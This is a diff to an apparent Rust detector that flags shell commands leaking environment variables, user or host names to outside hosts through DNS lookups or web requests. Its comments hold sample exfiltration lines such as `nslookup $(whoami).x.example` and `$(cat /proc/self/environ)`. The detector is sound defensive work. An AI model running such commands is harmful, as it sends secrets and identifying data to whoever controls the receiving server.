@@ -73,10 +73,7 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
             .iter()
             .any(|via| via.split_whitespace().next().is_some_and(|w| NETWORK_CLIENTS.contains(&w)));
     let resolver = matches!(name, "nslookup" | "dig" | "host" | "drill" | "ping" | "traceroute");
-    if (sent || resolver) && call.args().iter().any(|a| a.dynamic) && builds_destination(name, call.args()) {
-        return Some(Hit::ask("exfiltration.computed-destination", COMPUTED_DESTINATION));
-    }
-    if !sent {
+    if !sent && !resolver {
         return None;
     }
     let piped = super::credentials::carries_environment(call.analysis, command);
@@ -85,6 +82,9 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
     let uploaded = || super::credentials::reads_environment_file(call);
     if piped || substituted || uploaded() {
         return Some(Hit::new("exfiltration.environment", MESSAGE));
+    }
+    if call.args().iter().any(|a| a.dynamic) && builds_destination(name, call.args()) {
+        return Some(Hit::ask("exfiltration.computed-destination", COMPUTED_DESTINATION));
     }
     if sends_clipboard(call) {
         return Some(Hit::ask("exfiltration.clipboard", CLIPBOARD));
@@ -362,11 +362,11 @@ fn redirects_git(command: &SimpleCommand) -> bool {
 
 /// `$(env)`, `` `printenv` ``, `$(cat /proc/self/environ)` inside a word, and a dump piped
 /// through filters inside it (`$(env | gzip | base64 -w0)`).
-const COMPUTED_DESTINATION: &str = "The host name or URL this contacts is built from what the machine says about itself (the user, the host name, a file, the environment): looking it up or fetching it sends that text to whoever runs the name server or site. Write the name out, or ask the user.";
+const COMPUTED_DESTINATION: &str = "The host name or URL this contacts is built from what the machine says about itself (the user, the host name, a file): looking it up or fetching it sends that text to whoever runs the name server or site. Write the name out, or ask the user.";
 
 /// Commands whose output names this machine, its user or a file's contents.
 const IDENTIFYING: &[&str] =
-    &["whoami", "hostname", "id", "uname", "cat", "env", "printenv", "head", "tail", "base64", "xxd", "od", "hexdump"];
+    &["whoami", "hostname", "id", "uname", "cat", "head", "tail", "base64", "xxd", "od", "hexdump"];
 
 /// `nslookup $(whoami).x.example`, `curl x.example/$(hostname)`: an operand (not a header
 /// or an output file) where a substitution of an [`IDENTIFYING`] command is part of the name
